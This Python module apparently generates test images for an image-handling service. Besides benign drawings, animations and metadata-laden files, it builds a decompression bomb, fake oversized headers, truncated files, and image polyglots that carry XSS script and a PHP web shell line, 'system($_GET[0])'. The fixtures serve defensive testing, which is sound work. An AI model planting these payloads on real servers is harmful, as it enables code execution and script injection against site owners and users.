"""Images that people send, and those that attackers send; all of them are made here."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence
from functools import cache

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

SECRET = b"52.5163 N 13.3777 E"
"""Stands in all metadata, and in no picture that was written anew."""
ORIENTATION = 0x0112


def drawing(width: int = 60, height: int = 40, mode: str = "RGB") -> Image.Image:
    """An image whose upper left quarter is red, on white, so that turning it shows."""
    image = Image.new(mode, (width, height), "white")
    ImageDraw.Draw(image).rectangle((0, 0, width // 2, height // 2), fill="red")
    return image


def as_bytes(image: Image.Image, form: str = "PNG", **options: object) -> bytes:
    """An image as a file."""
    file = io.BytesIO()
    image.save(file, form, **options)
    return file.getvalue()


def animation(form: str, frames: int = 5, size: tuple[int, int] = (30, 20)) -> bytes:
    """An image that moves; every frame has another colour."""
    colours = [*((50 * n % 255, 99, 200) for n in range(frames)), (255, 0, 0)]
    images = []
    for number in range(frames):
        image = Image.new("P", size, number)  # GIF would look for a palette in every frame
        image.putpalette([part for colour in colours for part in colour])
        image.putpixel((number % size[0], number // size[0]), frames)
        images.append(image if form == "GIF" else image.convert("RGB"))
    first, *others = images
    return as_bytes(first, form, save_all=True, append_images=others, duration=80, loop=0)


def exif(orientation: int = 1) -> Image.Exif:
    """Metadata of a camera, with a position."""
    data = Image.Exif()
    data[ORIENTATION] = orientation
    data[0x010E] = SECRET.decode()  # ImageDescription
    gps = data.get_ifd(0x8825)
    gps[1], gps[2], gps[29] = "N", (52.0, 30.0, 58.68), SECRET.decode()
    return data


def swapped_profile() -> bytes:
    """A profile of colours in which red and green have changed places."""
    data = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return data.replace(b"rXYZ", b"----").replace(b"gXYZ", b"rXYZ").replace(b"----", b"gXYZ")


@cache
def text_bomb() -> bytes:
    """A PNG whose comment unpacks to a hundred megabytes."""
    packer, png, zeros = zlib.compressobj(9), as_bytes(drawing()), bytes(1 << 20)
    packed = b"".join(packer.compress(zeros) for _ in range(100)) + packer.flush()
    return png[:33] + chunk(b"zTXt", b"a\x00\x00" + packed) + png[33:]


def with_everything(form: str, orientation: int = 1) -> bytes:
    """An image with each sort of metadata that its format has."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + SECRET + b"</x:xmpmeta>"
    options: dict[str, object] = {}
    if form != "GIF":
        options = {"exif": exif(orientation), "icc_profile": profile}
    if form in {"JPEG", "WEBP"}:
        options["xmp"] = xmp
    if form in {"JPEG", "GIF"}:
        options["comment"] = SECRET
    if form == "PNG":
        text = PngInfo()
        text.add_text("Comment", SECRET.decode())
        text.add_itxt("XML:com.adobe.xmp", xmp.decode())
        options["pnginfo"] = text
    return as_bytes(drawing(), form, **options)


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG of one bit a pixel, with the size that its header says and the data that is given."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def white_png(width: int, height: int) -> bytes:
    """A PNG whose pixels are a few kilobytes for any size."""
    row = b"\x00" + b"\xff" * -(-width // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return png_of(width, height, data)


def webp_header(width: int, height: int) -> bytes:
    """The beginning of a WebP of any size, without its pixels."""
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x10\x00\x00\x00"
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_header(width: int, height: int) -> bytes:
    """A GIF of any size with one pixel of data."""
    one = as_bytes(Image.new("P", (1, 1)), "GIF")
    return one[:6] + struct.pack("<HH", width, height) + one[10:]


def jpeg_header(width: int, height: int) -> bytes:
    """A JPEG that says to be of any size."""
    data = bytearray(as_bytes(drawing(), "JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def heif(brand: bytes, *others: bytes) -> bytes:
    """The first box of a file of a brand."""
    box = b"ftyp" + brand + b"\x00\x00\x00\x00" + b"".join(others)
    return struct.pack(">I", 4 + len(box)) + box + bytes(64)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!doctype html><script>alert(document.domain)</script>"


def polyglots() -> dict[str, bytes]:
    """Files that are an image, and something else too."""
    png, jpeg = as_bytes(drawing()), as_bytes(drawing(), "JPEG", comment=HTML)
    gif = as_bytes(drawing(), "GIF")
    # Its width is the beginning of a comment in JavaScript, whose end stands in the trailer.
    script = b"GIF89a/*" + gif[10:] + b"*/=1;alert(document.domain)//"
    return {
        "png-html": png + HTML,
        "png-zip": png + b"PK\x03\x04" + bytes(40) + b"PK\x05\x06" + bytes(18),
        "png-text": png[:33] + chunk(b"tEXt", b"Comment\x00" + HTML) + png[33:],
        "jpeg-html": jpeg,
        "jpeg-php": jpeg[:-2] + b"<?php system($_GET[0]); ?>" + jpeg[-2:],
        "gif-html": gif + HTML,
        "gif-javascript": script,
    }


def truncated(form: str) -> bytes:
    """The first half of an image."""
    noise = Image.effect_noise((200, 200), 90).convert("RGB")
    data = as_bytes(noise, form)
    return data[: len(data) // 2]


FORMATS: Sequence[str] = ("AVIF", "GIF", "JPEG", "PNG", "WEBP")
